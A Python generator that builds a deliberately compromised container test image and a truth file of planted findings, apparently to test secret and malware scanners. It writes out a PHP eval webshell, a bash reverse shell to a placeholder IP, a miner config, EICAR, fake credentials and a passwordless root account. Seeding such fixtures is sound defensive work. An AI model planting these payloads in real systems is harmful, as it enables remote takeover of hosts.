#!/usr/bin/env python3
"""Writes the build context of the `threats` test image (images.sh) and a truth file.

Everything is generated here, at build time: fake credentials in their real formats made of
random characters, a private key made by openssl, a PHP webshell, the EICAR test string
assembled from pieces, a miner configuration, a reverse-shell script. Nothing of it is live
or real; the repository holds only this generator.

usage: plant_threats.py CONTEXT_DIR TRUTH_JSON
"""
import json
import os
import random
import string
import subprocess
import sys

ctx, truth_path = sys.argv[1], sys.argv[2]
rng = random.SystemRandom()


def rand(alphabet, n):
    return "".join(rng.choice(alphabet) for _ in range(n))


UPPER_DIGITS = string.ascii_uppercase + string.digits
ALNUM = string.ascii_letters + string.digits
B64 = ALNUM + "+/"


def write(rel, data, mode=0o644):
    path = os.path.join(ctx, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w" if isinstance(data, str) else "wb") as f:
        f.write(data)
    os.chmod(path, mode)


truth = {"secrets": [], "malware": []}

# Layer 1 (COPY app/ /srv/app/): credentials in configuration and source files.
aws_id = "AKIA" + rand(string.ascii_uppercase + "234567", 16)  # key ids are base32
aws_secret = rand(B64, 40)
gh = "ghp_" + rand(ALNUM, 36)
stripe = "sk_live_" + rand(ALNUM, 24)
db_pw = rand(ALNUM, 20)
write("app/.env", f"AWS_ACCESS_KEY_ID={aws_id}\nAWS_SECRET_ACCESS_KEY={aws_secret}\n")
write("app/settings.py",
      f'DEBUG = False\nGITHUB_TOKEN = "{gh}"\nSTRIPE_KEY = "{stripe}"\n'
      f'DATABASE_URL = "postgresql://app:{db_pw}@db.internal:5432/app"\n')
key = subprocess.run(["openssl", "genpkey", "-algorithm", "RSA", "-pkeyopt", "rsa_keygen_bits:2048"],
                     check=True, capture_output=True).stdout
write("app/certs/server.key", key, 0o600)
for value, path in [(aws_id, "srv/app/.env"), (aws_secret, "srv/app/.env"),
                    (gh, "srv/app/settings.py"), (stripe, "srv/app/settings.py"),
                    (db_pw, "srv/app/settings.py")]:
    truth["secrets"].append({"value": value, "path": path, "layer": 1})
truth["private_key_path"] = "srv/app/certs/server.key"

# Layer 2 (COPY web/ /var/www/html/): a one-line PHP webshell next to a harmless page.
write("web/index.html", "<html><body>It works</body></html>\n")
write("web/uploads/img.php", "<?php @eval($_POST['" + rand(string.ascii_lowercase, 4) + "']); ?>\n")
truth["malware"].append({"path": "var/www/html/uploads/img.php", "layer": 2, "what": "webshell"})

# Layer 3 (COPY drop/ /var/tmp/.cache/): EICAR, a miner config, a reverse shell.
eicar = "X5O!P%@AP[4\\PZX54(P^)7CC)7}" + "$EICAR-STANDARD-ANTIVIRUS" + "-TEST-FILE!$H+H*"
write("drop/eicar.com", eicar)
pool = f"stratum+tcp://pool-{rand(string.ascii_lowercase, 6)}.example:3333"
write("drop/config.json", json.dumps({
    "autosave": True, "donate-level": 1, "cpu": {"enabled": True},
    "pools": [{"algo": "rx/0", "url": pool, "user": rand(ALNUM, 95), "pass": "x", "keepalive": True}],
}, indent=2) + "\n")
write("drop/update.sh", "#!/bin/bash\nbash -i >& /dev/tcp/10.13.37.1/4444 0>&1\n", 0o755)
truth["malware"] += [
    {"path": "var/tmp/.cache/eicar.com", "layer": 3, "what": "eicar"},
    {"path": "var/tmp/.cache/config.json", "layer": 3, "what": "miner"},
    {"path": "var/tmp/.cache/update.sh", "layer": 3, "what": "reverse-shell"},
]

# Layer 4 (RUN useradd/chpasswd): "deploy" gets a very common password, set by the image's own
# chpasswd (libxcrypt, yescrypt by default on Debian 12); "operator2" is uid 0 with no password.
truth["weak_password"] = rng.choice(["password", "123456", "qwerty", "letmein", "iloveyou"])
truth["accounts"] = {"weak": "deploy", "empty": "operator2", "uid0": "operator2", "layer": 4}

# Layer 5 (COPY --chmod=4755): a setuid helper.
write("bin/backup-helper", "#!/bin/sh\nexec tar -czf /backup/etc.tgz /etc\n", 0o755)
truth["setuid"] = {"path": "usr/local/bin/backup-helper", "layer": 5}

# Image config: a secret in ENV (no layer), root user, port 22, no HEALTHCHECK.
truth["env_secret"] = rand(ALNUM, 24)

with open(truth_path, "w") as f:
    json.dump(truth, f, indent=2)
